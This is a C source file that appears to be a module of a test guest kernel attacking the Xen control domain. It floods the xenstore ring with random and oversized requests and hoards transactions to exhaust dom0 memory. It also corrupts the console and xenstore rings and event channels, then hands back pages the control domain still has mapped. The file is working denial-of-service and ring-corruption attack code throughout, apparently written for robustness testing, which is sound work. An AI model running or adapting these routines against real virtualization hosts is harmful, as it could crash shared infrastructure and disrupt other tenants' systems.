/* SPDX-License-Identifier: MIT */
/*
 * rings.c - against the control domain that made us: what our console's and our store's rings say,
 * by chance, and a flood of notifications; requests to the store that fill what we may hold there;
 * and at last the pages themselves given back while the control domain has them mapped. Whether it
 * stood that is for others to see: our own console is gone then, so the last words take the
 * hypervisor's.
 */
#include "attack.h"

#include <xen/io/console.h>
#include <xen/io/xs_wire.h>

static struct xencons_interface *console_page;
static struct xenstore_domain_interface *store_page;
static struct dice dice = { .state = 1 };

static const char *rings_begin(void)
{
    dice.state = arg_number("seed", 1) * 0x9e3779b97f4a7c15 + 1;
    if (start_info->console.domU.mfn == 0 || start_info->store_mfn == 0) {
        return "no control domain made us";
    }
    console_page = machine_page(start_info->console.domU.mfn);
    store_page = machine_page(start_info->store_mfn);
    return console_page && store_page ? NULL : "the rings can't be mapped";
}

static void last_words(const char *text)
{
    console_io(CONSOLEIO_write, strlen(text), text);
}

static void notify(unsigned int times)
{
    while (times--) {
        event_send(start_info->console.domU.evtchn);
        event_send(start_info->store_evtchn);
    }
}

/* ---- Requests ---- */

static void put_bytes(const void *bytes, size_t size)
{
    const char *from = bytes;
    uint64_t patience = clock_now() + SEC;

    while (size && clock_now() < patience) {
        XENSTORE_RING_IDX prod = store_page->req_prod;

        for (; size && prod - store_page->req_cons < XENSTORE_RING_SIZE; size--) {
            store_page->req[MASK_XENSTORE_IDX(prod++)] = *from++;
        }
        __atomic_store_n(&store_page->req_prod, prod, __ATOMIC_RELEASE);
        store_page->rsp_cons = store_page->rsp_prod; /* we never read */
        notify(1);
    }
}

/* A path of ours, of others, or none; `name` may fill what a path may hold. */
static size_t some_path(char *to)
{
    static const char *const first[] = {
        "data/", "control/shutdown/", "/local/domain/0/", "/local/domain/1/", "/", "data", "//",
        "@",
    };
    size_t n = below(&dice, 32) ? below(&dice, 6) : below(&dice, 2900), length = 0;

    for (const char *p = first[below(&dice, 3) ? 0 : below(&dice, 8)]; *p; p++) {
        to[length++] = *p;
    }
    while (n--) {
        to[length++] = below(&dice, 16) ? (char)('a' + below(&dice, 26))
                                        : "/_-@\n\x01"[below(&dice, 6)];
    }
    to[length++] = below(&dice, 64) ? '\0' : 'x';
    return length;
}

static void some_request(void)
{
    static const unsigned int likely[] = {
        XS_WRITE,     XS_WRITE,          XS_WRITE,     XS_MKDIR,
        XS_RM,        XS_WATCH,          XS_WATCH,     XS_READ,
        XS_DIRECTORY, XS_SET_PERMS,      XS_GET_PERMS, XS_TRANSACTION_START,
        XS_UNWATCH,   XS_DIRECTORY_PART,
    };
    static struct {
        struct xsd_sockmsg head;
        char payload[XENSTORE_PAYLOAD_MAX];
    } message;
    struct xsd_sockmsg *head = &message.head;
    size_t n = some_path(message.payload),
           more = below(&dice, 8) ? below(&dice, 40) : below(&dice, 1000);

    while (more--) {
        message.payload[n++] = (char)below(&dice, 128);
    }
    message.payload[n++] = '\0';
    head->type = below(&dice, 8) ? likely[below(&dice, sizeof(likely) / sizeof(likely[0]))]
                                 : (uint32_t)below(&dice, 30);
    if (below(&dice, 256) == 0) {
        head->type = XS_TRANSACTION_END;
        message.payload[0] = below(&dice, 2) ? 'T' : 'F';
        message.payload[1] = '\0';
        n = 2;
    }
    head->tx_id = below(&dice, 2) ? 0 : (uint32_t)below(&dice, 12);
    head->req_id = (uint32_t)roll(&dice);
    head->len = (uint32_t)n;
    put_bytes(&message, sizeof(*head) + n);
}

/* Whole requests that try to hold as much of the control domain's memory as can be had. */
const char *attack_store(void)
{
    const char *why = rings_begin();

    for (unsigned long i = 0, n = arg_number("count", 20000); !why && i < n; i++) {
        some_request();
    }
    last_words("attack: store: all was asked\n");
    return why;
}

static void request(uint32_t type, uint32_t tx, const char *payload, size_t size)
{
    struct xsd_sockmsg head = { .type = type, .tx_id = tx, .len = (uint32_t)size };

    put_bytes(&head, sizeof(head));
    put_bytes(payload, size);
}

/* All the transactions that can be had, each of which looks at all the nodes that it may. */
const char *attack_hoard(void)
{
    static char path[2000];
    const char *why = rings_begin();
    unsigned long reads = arg_number("reads", 1024);

    memset(path, 'x', sizeof(path) - 1);
    for (uint32_t tx = 1; !why && tx <= 10; tx++) {
        request(XS_TRANSACTION_START, 0, "", 1);
        for (unsigned int i = 0; i < reads; i++) {
            for (unsigned int digit = 0; digit < 10; digit++) {
                path[digit] = (char)('a' + (i >> digit & 1));
            }
            request(XS_READ, tx, path, sizeof(path));
        }
    }
    last_words("attack: hoard: all was asked\n");
    clock_sleep(arg_number("linger", 0) * SEC);
    return why;
}

/* ---- Rings that lie ---- */

static void spoil(void *page, uint32_t *indices)
{
    uint32_t *words = page;

    switch (below(&dice, 4)) {
    case 0:
        for (unsigned int i = 0; i < PAGE_SIZE / sizeof(*words); i++) {
            words[i] = (uint32_t)roll(&dice);
        }
        break;
    case 1:
        indices[below(&dice, 4)] = (uint32_t)roll(&dice);
        break;
    case 2:
        indices[below(&dice, 4)] += (uint32_t)below(&dice, 2048);
        break;
    default:
        words[below(&dice, PAGE_SIZE / sizeof(*words))] = (uint32_t)roll(&dice);
    }
}

static void give_back(unsigned long mfn)
{
    struct xen_memory_reservation one = { .nr_extents = 1, .domid = DOMID_SELF };
    unsigned long frame = mfn;

    set_xen_guest_handle(one.extent_start, &frame);
    memory_op(XENMEM_decrease_reservation, &one);
}

/* Ends with the shutdown that `end=` names: a number, or none: then it goes on for ever. */
const char *attack_rings(void)
{
    const char *why = rings_begin();
    unsigned long end = arg_number("end", SHUTDOWN_poweroff);
    uint64_t until = clock_now() + arg_number("seconds", 3) * SEC;

    if (why) {
        return why;
    }
    console_panic();
    do {
        spoil(console_page, &console_page->in_cons);
        spoil(store_page, &store_page->req_cons);
        notify(1 + (unsigned int)below(&dice, 16));
    } while (clock_now() < until);
    if (!arg_flag("keep")) {
        event_close(start_info->console.domU.evtchn);
        event_close(start_info->store_evtchn);
        map_at(console_page, 0);
        map_at(store_page, 0);
        give_back(start_info->console.domU.mfn);
        give_back(start_info->store_mfn);
        give_back(start_info->shared_info / PAGE_SIZE);
        give_back(start_info->shared_info / PAGE_SIZE);
    }
    last_words("attack: rings: all was tried\n");
    while (end > SHUTDOWN_MAX) {
        cpu_relax();
    }
    guest_shutdown((unsigned int)end);
}
